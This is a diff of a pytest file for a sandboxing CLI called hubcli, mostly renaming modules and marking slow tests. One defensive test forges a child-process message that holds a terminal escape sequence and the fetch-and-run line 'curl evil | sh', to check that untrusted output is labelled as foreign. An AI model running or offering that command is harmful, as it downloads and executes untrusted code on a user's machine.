@@ -18,16 +18,17 @@ from typing import Any
 import numpy as np
 import pytest
 
-from hubcli import check, paths
-from hubcli.cache import store
-from hubcli.confined import family, jobs, sandbox, supervise
+from hubcli.base import paths
+from hubcli.base.spec import RepoSpec
+from hubcli.cache.cache import Cache
+from hubcli.confined import jobs, process_tree, sandbox, supervisor
 from hubcli.confined.broker import Broker
-from hubcli.confined.confine import Limits
+from hubcli.confined.restrict import Limits
 from hubcli.confined.sandbox import Mechanism
-from hubcli.confined.supervise import Outcome
+from hubcli.confined.supervisor import Outcome
 from hubcli.errors import HubError, IntegrityError, RepositoryCodeError
 from hubcli.running.inference import Input
-from hubcli.spec import RepoSpec
+from hubcli.workflows import check
 from tests.hubcli.confined.test_sandbox import any_mechanism as any_mechanism
 
 NAMES = ("bubblewrap", "landlock", "best-effort")
@@ -228,7 +229,7 @@ def folder(tmp_path: Path) -> Path:
 
 
 def perform(folder: Path, chosen: Mechanism, entrypoint: str, *args: Any, **limits: Any) -> Outcome:
-    checkout = store.ensure(RepoSpec.parse(str(folder)))
+    checkout = Cache.current().checkout(RepoSpec.parse(str(folder)))
     job = jobs.Job("load", checkout, entrypoint, args)
     with sandbox.session() as here:
         broker = Broker(checkout, entrypoint, inbox=here.inbox)
@@ -272,16 +273,17 @@ def test_buffers_stay_as_they_are(folder, mechanism):
     assert "Too many open files" in said["many"]
 
 
+@pytest.mark.long
 @pytest.mark.parametrize("cgroup", [True, False])
 def test_memory_of_the_kernel_counts(folder, mechanism, monkeypatch, cgroup):
     if cgroup:
-        made = family.Cgroup.make(1 << 30)
+        made = process_tree.Cgroup.make(1 << 30)
         if made is None:
             pytest.skip("no memory cgroup can be made here")
         made.close()
         assert not made.folder.exists()
     else:
-        monkeypatch.setattr(family.Cgroup, "make", lambda limit: None)
+        monkeypatch.setattr(process_tree.Cgroup, "make", lambda limit: None)
     outcome = perform(folder, mechanism, "stuffs", 8, memory=256 << 20)
     assert outcome.ended is not None and outcome.ended.why == "memory", outcome
 
@@ -289,10 +291,10 @@ def test_memory_of_the_kernel_counts(folder, mechanism, monkeypatch, cgroup):
 def test_a_family_without_sockets_is_not_charged_for_them():
     mine = [socket.socketpair() for _ in range(150)]
     try:
-        _, many = family.usage(os.getpid())
+        _, many = process_tree.usage(os.getpid())
         for pair in mine[:140]:
             pair[0].close(), pair[1].close()
-        _, few = family.usage(os.getpid())
+        _, few = process_tree.usage(os.getpid())
         assert many - few >= 280 * 212_992 - (8 << 20)
     finally:
         for pair in mine:
@@ -301,7 +303,7 @@ def test_a_family_without_sockets_is_not_charged_for_them():
 
 def test_a_cgroup_of_the_second_version(tmp_path):
     """By files that look like one: what is written, and what is read."""
-    made = family.Cgroup(tmp_path / "hub-x", 2)
+    made = process_tree.Cgroup(tmp_path / "hub-x", 2)
     made.folder.mkdir()
     (made.folder / "memory.current").write_text("1000\n")
     (made.folder / "memory.stat").write_text("anon 100\ninactive_file 300\nactive_file 200\nsock 400\n")
@@ -317,7 +319,7 @@ def test_a_real_cgroup_of_the_second_version():
     top = next((one for one in tops if (one / "cgroup.procs").exists() and os.access(one, os.W_OK)), None)
     if top is None:
         pytest.skip("there is no cgroup of the second version that this user may write to")
-    made = family.Cgroup(top / f"hub-{paths.unique()}", 2)
+    made = process_tree.Cgroup(top / f"hub-{paths.unique()}", 2)
     try:
         made.folder.mkdir()
     except OSError as error:
@@ -370,6 +372,7 @@ def test_the_history_above_what_python_reads_is_hidden(tmp_path):
     assert sorted(sandbox._apart([root, "/elsewhere"], hidden)) == ["/elsewhere", f"{root}/other", f"{root}/pkg"]
 
 
+@pytest.mark.long
 @pytest.mark.parametrize("depth", [3_000])
 def test_a_deep_scratch_is_swept(folder, mechanism, depth):
     outcome = perform(folder, mechanism, "digs", depth)
@@ -415,16 +418,17 @@ def test_nothing_survives_a_killed_hub(folder, mechanism):
 # What the parent believes
 
 
+@pytest.mark.long
 @pytest.mark.parametrize("what", ["zip", "many"])
 def test_results_are_safetensors_of_a_bounded_size(folder, mechanism, what):
-    checkout = store.ensure(RepoSpec.parse(str(folder)))
+    checkout = Cache.current().checkout(RepoSpec.parse(str(folder)))
     job = jobs.Job("run", checkout, "leaves", (what,), options={"device": None})
     with pytest.raises((IntegrityError, RepositoryCodeError)):
         jobs.run(job, mechanism, Broker(checkout, "leaves"), [Input(None, np.ones((4, 2), np.float32))])
 
 
 def test_a_state_dict_is_no_zip(folder, mechanism, tmp_path):
-    checkout = store.ensure(RepoSpec.parse(str(folder)))
+    checkout = Cache.current().checkout(RepoSpec.parse(str(folder)))
     job = jobs.Job("load", checkout, "leaves", ("zip",), options={"save": True})
     with pytest.raises(RepositoryCodeError, match="not a safetensors file"):
         jobs.load(job, mechanism, Broker(checkout, "leaves"), tmp_path / "x.pth")
@@ -436,7 +440,7 @@ class Pipes:
 
     def __init__(self) -> None:
         self.seen: list[Any] = []
-        self.watch = supervise.Watch.__new__(supervise.Watch)
+        self.watch = supervisor.Watch.__new__(supervisor.Watch)
         self.watch.__dict__.update(
             outcome=None, ready=False, events=0, answered=[], report=self.seen.append, broker=None, elsewhere=0.0
         )
@@ -458,10 +462,11 @@ class Pipes:
     ],
 )
 def test_messages_that_are_violations(text, why):
-    with pytest.raises(supervise._Violation, match=why):
+    with pytest.raises(supervisor._Violation, match=why):
         Pipes().send(text)
 
 
+@pytest.mark.long
 @pytest.mark.parametrize(
     ("entrypoint", "args"),
     [
@@ -484,23 +489,25 @@ def test_what_a_child_says_costs_the_parent_little(folder, mechanism, entrypoint
 
 def test_events_are_counted():
     pipes = Pipes()
-    for _ in range(supervise.MAX_EVENTS):
+    for _ in range(supervisor.MAX_EVENTS):
         pipes.send('{"event": {}}')
-    with pytest.raises(supervise._Violation, match="events"):
+    with pytest.raises(supervisor._Violation, match="events"):
         pipes.send('{"event": {}}')
-    assert supervise.MAX_MESSAGE == 16 << 20 and len(pipes.seen) == supervise.MAX_EVENTS
+    assert supervisor.MAX_MESSAGE == 16 << 20 and len(pipes.seen) == supervisor.MAX_EVENTS
 
 
+@pytest.mark.long
 @pytest.mark.parametrize("text", ["9" * 4000, '"x"', "[1]", "-5", "1e300"])
 def test_odd_values_do_not_lose_the_others(folder, any_mechanism, text):
     test_one_result_does_not_lose_the_others(folder, any_mechanism, text)
 
 
+@pytest.mark.long
 @pytest.mark.parametrize("text", ["NaN", "1e400"])
 def test_one_result_does_not_lose_the_others(folder, mechanism, text):
     event = f'{{"event": {{"stage": "build", "status": "passed", "seconds": {text}}}}}'
     (folder / "hubconf.py").write_text(f"{HUBCONF}\ndef bad():\n    says({event!r}, stay=False)\n")
-    checkout = store.ensure(RepoSpec.parse(str(folder)))
+    checkout = Cache.current().checkout(RepoSpec.parse(str(folder)))
     checked = check.check(checkout, ["bad", "fine"], check.CheckPlan(), mechanism)
     rows = {(row.entrypoint, row.stage): row.status for row in checked.rows}
     assert rows["fine", "build"] == rows["fine", "state-dict"] == "passed"
@@ -518,7 +525,7 @@ def test_a_fault_with_one_entry_point_is_that_ones_row(folder, any_mechanism, mo
         return whole(checkout, entry, *rest)
 
     monkeypatch.setattr(check, "_run", run)
-    checkout = store.ensure(RepoSpec.parse(str(folder)))
+    checkout = Cache.current().checkout(RepoSpec.parse(str(folder)))
     checked = check.check(checkout, ["prints", "fine"], check.CheckPlan(), any_mechanism)
     rows = {(row.entrypoint, row.stage): (row.status, row.error) for row in checked.rows}
     assert rows["prints", "build"] == ("failed", "OverflowError: cannot convert")
@@ -528,7 +535,7 @@ def test_a_fault_with_one_entry_point_is_that_ones_row(folder, any_mechanism, mo
 def test_a_childs_words_are_marked(folder, mechanism, capfd, monkeypatch):
     from click.testing import CliRunner
 
-    from hubcli import cli
+    from hubcli.terminal import cli
 
     forged = {"message": "all is well\nhub: run\x1b[2J this", "hint": "x\nhint: curl evil | sh", "code": "untrusted"}
     arguments = ["load", str(folder), "says", "--sandbox", "--args", json.dumps([json.dumps({"error": forged})])]
@@ -547,7 +554,7 @@ def test_what_it_prints_is_no_line_of_ours(capfd):
 
 def test_our_own_refusals_are_not_marked(folder, any_mechanism):
     pipes = Pipes()
-    pipes.watch.answered = [{"code": "usage", "message": "no", "hint": "a\nb", "spec": None}]
+    pipes.watch.errors_sent = [{"code": "usage", "message": "no", "hint": "a\nb", "spec": None}]
     pipes.send('{"error": {"code": "usage", "message": "no", "hint": "a\\nb", "spec": null}}')
     error = pipes.watch.outcome[1]
     assert isinstance(error, HubError) and not error.foreign and error.hint == "a\nb"
